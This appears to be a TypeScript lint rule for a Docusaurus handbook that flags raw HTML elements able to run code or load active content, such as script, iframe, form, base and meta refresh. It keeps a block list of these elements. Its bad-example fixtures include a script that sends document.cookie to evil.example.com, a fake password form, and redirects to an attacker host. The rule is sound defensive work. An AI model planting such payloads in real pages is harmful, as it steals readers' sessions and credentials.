import { defineCheck } from '../engine/check.ts';
import { tagsOf, type Tag } from '../security/html.ts';

/** Elements that run code, load another document or plugin, or change how the whole page loads. */
const ACTIVE: Record<string, string> = {
  script: 'runs JavaScript in every reader\'s browser',
  noscript: 'hides content from readers with script and can smuggle markup past sanitisers',
  iframe: 'embeds another document, which runs its own scripts',
  frame: 'embeds another document, which runs its own scripts',
  frameset: 'replaces the page with frames of other documents',
  object: 'loads a plugin or another document',
  embed: 'loads a plugin or another document',
  applet: 'loads a plugin',
  portal: 'embeds another document',
  fencedframe: 'embeds another document',
  base: 'changes where every relative link and script of the page points',
  form: 'sends what readers type to another address',
  link: 'loads a stylesheet, script or document into the page',
  style: 'restyles the whole site and can load remote content with url()',
  template: 'holds markup that script can activate later',
  slot: 'takes part in shadow DOM, which only script creates',
};

function refusal(tag: Tag): string | null {
  if (tag.name === 'meta') {
    const equiv = tag.attributes.find((a) => a.name.toLowerCase() === 'http-equiv');
    return equiv ? `\`<meta http-equiv${equiv.value ? `="${equiv.value}"` : ''}>\` can redirect the page, set cookies or change its security policy` : null;
  }
  const risk = Object.hasOwn(ACTIVE, tag.name) ? ACTIVE[tag.name] : undefined;
  return risk ? `\`<${tag.name}>\` ${risk}` : null;
}

export default defineCheck({
  id: 'security/active-html',
  description: 'No raw HTML or JSX elements that run code or load active content (`<script>`, `<iframe>`, `<object>`, `<embed>`, `<base>`, `<form>`, `<meta http-equiv>`, …), anywhere in a page.',
  severity: 'error',
  local: true,
  messages: {
    activeContent: '{why}; pages must not contain it. Show it in a code block, or link to the content instead',
  },
  docs: {
    why:
      'Docusaurus publishes raw HTML in Markdown as it is written. A `<script>` merged in a doc PR runs in the ' +
      'browser of every on-call engineer who opens the page, with their session on every internal tool the ' +
      'handbook links to; an `<iframe>` or `<form>` can put a fake login box on a trusted page.',
    fix:
      'Remove the element. To show HTML on a page, put it in a fenced code block or `inline code`. To embed ' +
      'a dashboard or video, link to it instead. If a page needs an interactive widget, build it as a React ' +
      'component in `src/components/` (reviewed as code) and import it from an `.mdx` page.',
    good: [
      {
        title: 'HTML shown as code, and harmless inline HTML',
        source:
          '# Embedding\n\nA page must not contain `<script>` tags:\n\n```html\n<script src="https://cdn.example.com/x.js"></script>\n```\n\n' +
          'Press <kbd>Ctrl</kbd>+<kbd>C</kbd>. Replace `<pod-name>` with <var>pod-name</var>.\n\n<details>\n<summary>More</summary>\n\nText.\n\n</details>\n',
      },
    ],
    bad: [
      {
        title: 'A script, an iframe and a form',
        source:
          '# Status\n\n<script>fetch("https://evil.example.com/?c=" + document.cookie)</script>\n\n' +
          'Dashboard: <iframe src="https://grafana.example.com/d/abc"></iframe>\n\n<form action="https://login.example.com"><input name="password"></form>\n',
        problems: [
          { at: '3:1', message: '`<script>` runs JavaScript' },
          { at: '5:12', message: '`<iframe>` embeds another document' },
          { at: '7:1', message: '`<form>` sends what readers type' },
        ],
      },
      {
        title: 'Inside an admonition, a list and a table',
        source:
          '# Steps\n\n:::warning\n\n<ScRiPt src="https://cdn.example.com/x.js"></ScRiPt>\n\n:::\n\n1. Open:\n   <object data="https://example.com/x.swf"></object>\n\n' +
          '| Step | Note |\n| --- | --- |\n| 1 | <embed src="https://example.com/x"> |\n\n> <meta http-equiv="refresh" content="0;url=https://evil.example.com">\n\n<base href="https://evil.example.com/">\n',
        problems: [
          { at: '5:1', message: '`<script>`' },
          { at: '10:4', message: '`<object>`' },
          { at: '14:7', message: '`<embed>`' },
          { at: '16:3', message: '`<meta http-equiv="refresh">`' },
          { at: '18:1', message: '`<base>`' },
        ],
      },
      {
        title: 'JSX in an .mdx page',
        path: 'docs/example.mdx',
        source: '# Widget\n\n<iframe src={"https://example.com/embed"} allowFullScreen />\n',
        problems: [{ at: '3:1', message: '`<iframe>`' }],
      },
    ],
  },
  checkFile(file, project, report) {
    if (file.status !== 'ok') return;
    for (const tag of tagsOf(file, project)) {
      const why = refusal(tag);
      if (why) report(file, { offset: tag.start }, 'activeContent', { why });
    }
  },
});
